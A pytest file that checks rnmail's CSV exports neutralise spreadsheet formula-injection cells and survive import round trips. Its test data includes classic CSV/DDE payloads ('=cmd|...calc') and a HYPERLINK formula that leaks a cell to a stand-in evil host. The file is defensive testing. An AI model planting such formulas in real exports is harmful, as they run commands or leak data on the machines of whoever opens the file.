"""CSV formula injection: every CSV rnmail writes (``stats --format csv``, ``lists export``,
``directory export``) neutralises text cells a spreadsheet would run as a formula, keeps
numbers numeric, and its importers read the neutralised cells back to what they were —
through the real CLI, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from rnmail.config import load_config
from rnmail.db import Database
from rnmail.models import Ticket
from rnmail.util.csvfile import neutralise_cell, to_csv, unquote_cell
from tests.harness.factories import write_config
from tests.harness.install import rnmail

# What an attacker puts in a cell: the classic payloads and the other formula starts.
PAYLOADS = ("=cmd|'/C calc'!A0", "+SUM(1+1)*cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0",
            "@SUM(1+1)*cmd|'/C calc'!A0", '=HYPERLINK("http://evil.invalid/?"&A1,"x")',
            "'=already quoted", "''+twice quoted")


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def dangerous(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def config(tmp_path: Path, db_url: str) -> Path:
    path = write_config(tmp_path, db_url)
    assert rnmail(path, "init")[0] == 0
    return path


def test_the_shared_writer_neutralises_text_and_keeps_numbers() -> None:
    for value in (*PAYLOADS, "\tx", "\rx", "-", "=", "'", "'-", "plain", "l'été", ""):
        written = neutralise_cell(value)
        assert not dangerous(written), value
        assert unquote_cell(written) == value, value  # read back as it was
    assert neutralise_cell(-3) == -3 and neutralise_cell(-2.5) == -2.5
    assert to_csv([["organisation", "tickets", "delta"], ["-x", -3, -0.5]]) == (
        "organisation,tickets,delta\n'-x,-3,-0.5\n")
    assert unquote_cell("'quoted on purpose") == "'quoted on purpose"  # not ours: kept


def test_stats_csv_neutralises_requester_domains_and_organisations(
        config: Path, db_url: str) -> None:
    db = Database(load_config(config).database.url)
    try:
        with db.transaction() as session:
            for i, payload in enumerate(PAYLOADS):
                session.add(Ticket(subject=f"t{i}", channel="mail", requester=f"a{i}@{payload}",
                                   requester_type="municipality", language="fr"))
            session.add(Ticket(subject="org", channel="mail", requester="b@example.org",
                               requester_type="municipality", requester_org="-1 Commune",
                               language="fr"))
    finally:
        db.dispose()
    ran = rnmail(config, "stats", "--by", "organisation", "--format", "csv")
    assert ran.code == 0, ran.err
    rows = cells(ran.out)
    assert rows[0] == ["organisation", "tickets"]
    written = {row[0] for row in rows[1:]}
    assert not any(dangerous(cell) for row in rows for cell in row), rows
    assert "'=cmd|'/c calc'!a0" in written  # the domain, lower-cased, neutralised
    assert "'-1 Commune" in written
    assert all(row[1].isdigit() for row in rows[1:])  # numbers stay numbers


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_lists_export_neutralises_and_import_reads_it_back(
        config: Path, tmp_path: Path, delimiter: str) -> None:
    source = tmp_path / "lists" / "ops.csv"
    source.parent.mkdir()
    with source.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f, delimiter=delimiter)
        writer.writerow(["email", "name", "language", "organisation", "code"])
        for i, payload in enumerate(PAYLOADS):
            writer.writerow([f"m{i}@ops.example", payload, "fr", payload[::-1], f"-{i}"])
    assert rnmail(config, "lists", "import", str(source)).code == 0
    first = rnmail(config, "lists", "export", "ops")
    assert first.code == 0, first.err
    rows = cells(first.out)
    assert not any(dangerous(cell) for row in rows for cell in row), rows
    # Import the export: the members are the ones the first file gave, and a second
    # export is the same file.
    again = tmp_path / "again" / "ops.csv"
    again.parent.mkdir()
    again.write_text(first.out, encoding="utf-8")
    ran = rnmail(config, "lists", "import", str(again))
    assert ran.code == 0, ran.err
    assert "(0 added, 0 updated, 0 removed)" in ran.out
    members = rnmail(config, "lists", "show", "ops", "--json")
    names = {m["email"]: (m["name"], m["code"]) for m in json.loads(members.out)}
    # A cell that came quoted is read without its quote, as from our own export.
    assert names == {f"m{i}@ops.example": (unquote_cell(p), f"-{i}")
                     for i, p in enumerate(PAYLOADS)}
    assert rnmail(config, "lists", "export", "ops").out == first.out


def test_directory_export_neutralises_and_round_trips(config: Path, tmp_path: Path) -> None:
    header = ["organisation", "organisation_type", "organisation_code", "name", "email",
              "phone", "language", "role", "access_status", "organisation_address"]
    source = tmp_path / "directory.csv"
    with source.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f, delimiter=";")
        writer.writerow(header)
        for i, payload in enumerate(PAYLOADS):
            writer.writerow([f"{payload} org", "municipality", f"C{i}", payload,
                             f"u{i}@town.example", f"+32 4 221 84 1{i}", "fr",
                             "@role", "active", "-" + payload])
    ran = rnmail(config, "directory", "import", str(source))
    assert ran.code == 0, ran.output
    first = rnmail(config, "directory", "export")
    assert first.code == 0, first.err
    rows = cells(first.out)
    assert not any(dangerous(cell) for row in rows for cell in row), rows
    exported = list(csv.DictReader(io.StringIO(first.out)))
    assert all(r["phone"].startswith("'+3242218") for r in exported)  # read back below
    again = tmp_path / "again.csv"
    again.write_text(first.out, encoding="utf-8")
    ran = rnmail(config, "directory", "import", str(again), "--json")
    assert ran.code == 0, ran.err
    report = json.loads(ran.out)
    assert (report["users_updated"], report["organisations_updated"]) == (0, 0)
    assert report["users_unchanged"] == len(PAYLOADS)
    assert rnmail(config, "directory", "export").out == first.out
